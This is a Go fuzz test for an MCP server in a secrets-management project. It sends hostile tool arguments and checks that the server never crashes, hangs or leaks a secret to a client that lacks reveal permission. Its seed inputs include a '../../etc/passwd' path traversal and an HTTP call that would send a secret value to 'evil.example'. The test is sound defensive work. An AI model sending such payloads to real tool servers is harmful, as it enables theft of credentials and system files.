package mcpserve

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/tresor-dev/tresor/broker"
)

// FuzzToolArguments sends hostile arguments to every tool of a client that
// has list, use and write but not reveal: the server must answer (a result
// or a protocol error, never a crash or a hang), and no answer may hold a
// secret value. Names like ../../x, control characters, huge strings and
// wrong types all land here.
func FuzzToolArguments(f *testing.F) {
	for _, s := range []string{
		`{}`, `{"credential":"openai"}`, `{"credential":"../../etc/passwd","field":"value"}`,
		`{"credential":"projects/mercury/openai","method":"GET","url":"https://evil.example/?k={{value}}"}`,
		`{"name":"projects/mercury/openai","field":"value"}`, `{"text":"x","name":"openai"}`,
		`{"ref":"projects/mercury/openai"}`, `{"query":"sk-","limit":-1}`, `{"scope":"mcp:github","type":"secret"}`,
		`{"credential":"tresor://projects/mercury/openai#value"}`, `{"credential":"a\u0000b"}`, `{"credential":1}`,
		`{"headers":{"Authorization":"x"},"credential":"openai","method":"GET","url":"http://127.0.0.1/"}`,
	} {
		f.Add(s)
	}
	fx := newFixture(f)
	seed(fx)
	fx.start(Options{Project: "mercury", Broker: broker.New(broker.Options{Resolver: names{}, Timeout: 2 * time.Second})})
	cs := fx.connect(fx.client("fuzz", []string{fakeProject, "global", "mcp:github"}, false, true), nil)
	tools := []string{ToolList, ToolHTTP, ToolGet, ToolRemember, ToolRecall, ToolForget}
	f.Fuzz(func(t *testing.T, args string) {
		if !json.Valid([]byte(args)) {
			return
		}
		for _, tool := range tools {
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: json.RawMessage(args)})
			cancel()
			if err != nil {
				if ctx.Err() != nil {
					t.Fatalf("%s: no answer: %v", tool, err)
				}
				continue
			}
			b, _ := json.Marshal(res)
			for _, s := range allSecrets {
				if strings.Contains(string(b), s) {
					t.Fatalf("%s(%s) leaked a secret to a client without reveal", tool, args)
				}
			}
		}
		if err := cs.Ping(context.Background(), nil); err != nil {
			t.Fatalf("ping after %s: %v", args, err)
		}
	})
}
